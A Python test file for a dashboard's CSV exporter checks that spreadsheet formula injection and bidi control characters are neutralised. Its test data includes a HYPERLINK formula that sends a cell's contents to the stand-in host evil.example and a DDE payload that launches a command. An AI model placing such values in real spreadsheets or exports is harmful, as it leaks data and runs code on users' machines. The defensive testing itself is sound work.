"""The one CSV writer: hostile cells stay in their cell and never become formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from dashboard.domain.csv_export import neutralise_cell, rows_to_csv

HOSTILE = [
    "\r=2+2",
    "a\rb",
    "line one\nline two",
    "a\r\nb",
    'say "hi", then ""',
    "a,b;c\td",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\u202e=1+1",
    "\u2066@SUM(A1:A9)\u2069",
    "abc\u202edef",
    "-2+3",
    "+cmd|' /C calc'!A0",
    "\tx",
    "",
    None,
]


def test_hostile_cells_round_trip_to_the_same_shape() -> None:
    rows = [[cell, cell, 7] for cell in HOSTILE] + [[{"k": "=x"}, ["=y"], -5]]
    text = rows_to_csv(["=head", "b", "n"], rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert len(parsed) == len(rows) + 1
    assert all(len(row) == 3 for row in parsed)
    assert parsed[0] == ["'=head", "b", "n"]
    for cell, back in zip(HOSTILE, parsed[1:], strict=False):
        assert back[0] == back[1] == neutralise_cell(cell)
        assert back[2] == "7"
    assert parsed[-1] == ['{"k": "=x"}', '["=y"]', "-5"]
    # Nothing a spreadsheet would run: every cell starts with a harmless character.
    for row in parsed:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.lstrip("\u202e\u2066").startswith(("=", "@")), cell


def test_every_cell_is_quoted() -> None:
    assert rows_to_csv(["a"], [["\r=2+2"], [1]]) == '"a"\r\n"\'\r=2+2"\r\n"1"\r\n'


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", " =1"])
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


def test_a_formula_behind_a_bidi_control_is_neutralised_and_the_control_marked() -> None:
    assert neutralise_cell("\u202e=1") == "'[U+202E]=1"
    assert neutralise_cell("\u2066@SUM(A1:A9)\u2069") == "'[U+2066]@SUM(A1:A9)[U+2069]"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("invoice\u202etxt.exe", "invoice[U+202E]txt.exe"),
        ("a\u200fb\u200ec", "a[U+200F]b[U+200E]c"),
        ("bell\x07 esc\x1b del\x7f c1\x85", "bell[U+0007] esc[U+001B] del[U+007F] c1[U+0085]"),
        ("tab\tand\nnew line", "tab\tand\nnew line"),
    ],
)
def test_exports_mark_bidi_and_control_characters(cell: str, shown: str) -> None:
    assert neutralise_cell(cell) == shown
    parsed = list(csv.reader(io.StringIO(rows_to_csv(["name"], [[cell]]), newline="")))
    assert parsed == [["name"], [shown]]


def test_plain_values_are_kept() -> None:
    assert neutralise_cell("plain") == "plain"
    assert neutralise_cell(None) == "" and neutralise_cell(float("nan")) == ""
    assert neutralise_cell(-5) == "-5" and neutralise_cell(-0.5) == "-0.5"
    assert neutralise_cell(True) == "True"
    at = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
    assert neutralise_cell(at) == "2026-11-20T12:00:00+00:00"
